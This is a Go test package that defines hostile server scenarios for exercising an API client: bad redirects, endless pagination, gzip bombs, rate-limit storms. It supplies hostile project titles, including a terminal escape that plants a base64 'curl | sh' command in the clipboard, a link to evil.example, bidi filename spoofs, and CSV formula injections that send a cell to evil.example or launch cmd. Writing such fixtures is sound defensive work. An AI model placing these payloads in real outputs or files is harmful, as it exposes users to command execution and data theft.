package hostile

// Scenario names one way the server misbehaves; the package comment says
// which case of issue 8 each covers.
type Scenario string

// The scenarios.
const (
	Valid              Scenario = "valid"
	RedirectOtherPort  Scenario = "redirect-other-port"
	RedirectToHTTP     Scenario = "redirect-to-http"
	RedirectSameOrigin Scenario = "redirect-same-origin"
	LeadRedirect307    Scenario = "lead-redirect-307"
	LeadRedirect308    Scenario = "lead-redirect-308"
	NextLoop           Scenario = "next-loop"
	NextEndless        Scenario = "next-endless"
	NextOtherHost      Scenario = "next-other-host"
	LyingTotal         Scenario = "lying-total"
	HugeBody           Scenario = "huge-body"
	GzipBomb           Scenario = "gzip-bomb"
	RateLimitStorm     Scenario = "rate-limit-storm"
	RateLimitBrief     Scenario = "rate-limit-brief"
	LeadDrop           Scenario = "lead-drop"
	EscapeTitles       Scenario = "escape-titles"
	C1BidiTitles       Scenario = "c1-bidi-titles"
	CSVFormulaTitles   Scenario = "csv-formula-titles"
	ZWJTitles          Scenario = "zwj-titles"
	NullsWrongTypes    Scenario = "nulls-wrong-types"
	MalformedHeaders   Scenario = "malformed-headers"
	BadCertificate     Scenario = "bad-certificate"
)

// Scenarios lists every scenario but Valid, in the package comment's order.
var Scenarios = []Scenario{
	RedirectOtherPort, RedirectToHTTP, RedirectSameOrigin, LeadRedirect307, LeadRedirect308,
	NextLoop, NextEndless, NextOtherHost, LyingTotal, HugeBody, GzipBomb, RateLimitStorm, RateLimitBrief,
	LeadDrop,
	EscapeTitles, C1BidiTitles, CSVFormulaTitles, ZWJTitles, NullsWrongTypes,
	MalformedHeaders, BadCertificate,
}

// tls reports whether the API server of s speaks https.
func (s Scenario) tls() bool { return s == RedirectToHTTP || s == BadCertificate }

// Titles are the project titles a scenario serves, in /projects and in the
// pledges' projects; nil for the ordinary ones.
func (s Scenario) Titles() []string {
	switch s {
	case EscapeTitles:
		return []string{
			"Ferme \x1b[2J\x1b[Hcleared",
			"Clip \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07board",
			"Link \x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\",
			"Red \x1b[31mtext\x1b[0m and title \x1b]0;owned\x07",
			"Unterminated \x1b]52;c;AAAA",
		}
	case C1BidiTitles:
		return []string{
			"C1 CSI \u009b31mred\u009b0m",
			"C1 OSC \u009d52;c;AAAA\u009c end",
			"NEL\u0085line",
			"RLO \u202egnp.exe\u202c",
			"Isolates \u2066a\u2069 \u2067b\u2069 \u2068c\u2069 LRE\u202aRLE\u202bPDF\u202cLRO\u202d",
		}
	case CSVFormulaTitles:
		return []string{
			"=HYPERLINK(\"https://evil.example/?\"&A1,\"Ferme\")",
			"+1+cmd|' /C calc'!A0",
			"-2+3",
			"@SUM(1+1)*cmd|' /C calc'!A0",
			"\t=1+1",
			"\r=1+1",
		}
	case ZWJTitles:
		return []string{
			"👩\u200d🌾 Ferme des Lilas",
			"Famille 👨\u200d👩\u200d👧\u200d👦 et 🏳️\u200d🌈",
			"Stray\u200d joiner\u200d",
			"\u200dLeading and 👍🏽 tone",
			"Lone ZWJ \u200d\u200d\u200d end",
		}
	}
	return nil
}
